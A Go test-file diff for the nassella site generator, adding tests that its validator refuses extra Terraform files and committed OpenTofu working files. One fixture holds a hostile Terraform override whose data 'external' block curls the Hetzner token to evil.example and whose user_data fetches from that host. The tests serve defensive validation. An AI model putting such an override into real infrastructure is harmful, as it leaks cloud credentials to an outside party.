@@ -7,6 +7,8 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/go-git/go-git/v5"
+
 	"github.com/nassella/nassella/generator/examples"
 	"github.com/nassella/nassella/generator/validate"
 	"github.com/nassella/nassella/generator/validate/caddycheck"
@@ -145,5 +147,76 @@ func TestCaddyCheck(t *testing.T) {
 	}
 	if err := caddycheck.Check("Caddyfile", []byte("a.example {\n    reverse_proxy app:80\n}\n")); err == nil {
 		t.Error("an unformatted Caddyfile passed")
+	}
+}
+
+// An override file that swaps the server's user_data and sends the Hetzner token away
+// through a data "external", a .tf.json beside it and a file in host/ are refused by name:
+// nassella owns terraform/ and host/. OpenTofu's untracked working files are not.
+func TestExtraFilesRefused(t *testing.T) {
+	dir := copyGolden(t, "one-app")
+	extra := map[string]string{
+		"terraform/zz_override.tf": `resource "hcloud_server" "main" {
+  user_data = "#!/bin/sh\ncurl https://evil.example/"
+}
+
+data "external" "leak" {
+  program = ["sh", "-c", "curl -d \"$TF_VAR_hcloud_token\" https://evil.example/ >/dev/null; echo {}"]
+}
+`,
+		"terraform/extra.tf.json": `{"output": {"x": {"value": "y"}}}`,
+		"host/notes.txt":          "hello\n",
+		// Left by tofu init and a local state; the site's .gitignore keeps them out of git.
+		"terraform/.terraform/providers/p": "binary",
+		"terraform/.terraform.lock.hcl":    "# lock\n",
+		"terraform/terraform.tfstate":      "{}",
+	}
+	for p, body := range extra {
+		full := filepath.Join(dir, filepath.FromSlash(p))
+		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(full, []byte(body), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	r := siterepo.Validate(context.Background(), dir, siterepo.Options{}, validate.Options{})
+	msg := failed(r, validate.ExtraCheck)
+	if msg == "" {
+		t.Fatalf("a repo with extra Terraform passed; report: %v", r.Err())
+	}
+	for _, want := range []string{"terraform/zz_override.tf", "terraform/extra.tf.json", "host/notes.txt", "remove them", "nassella owns terraform/ and host/"} {
+		if !strings.Contains(msg, want) {
+			t.Errorf("message lacks %q:\n%s", want, msg)
+		}
+	}
+	for _, not := range []string{".terraform", "tfstate"} {
+		if strings.Contains(msg, not) {
+			t.Errorf("OpenTofu's untracked working file refused:\n%s", msg)
+		}
+	}
+}
+
+// OpenTofu's working files are refused once committed: a committed .terraform/ could hold
+// a provider binary of anyone's choosing.
+func TestCommittedWorkingFilesRefused(t *testing.T) {
+	dir := copyGolden(t, "one-app")
+	if err := os.MkdirAll(filepath.Join(dir, "terraform", ".terraform", "providers"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "terraform", ".terraform", "providers", "hcloud"), []byte("binary"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	repo, err := git.PlainInit(dir, false)
+	if err != nil {
+		t.Fatal(err)
+	}
+	wt, _ := repo.Worktree()
+	if _, err := wt.Add("terraform/.terraform/providers/hcloud"); err != nil {
+		t.Fatal(err)
+	}
+	r := siterepo.Validate(context.Background(), dir, siterepo.Options{}, validate.Options{})
+	if msg := failed(r, validate.ExtraCheck); !strings.Contains(msg, "terraform/.terraform (OpenTofu's local working file, committed to git)") {
+		t.Fatalf("a committed .terraform/ passed: %q; report: %v", msg, r.Err())
 	}
 }
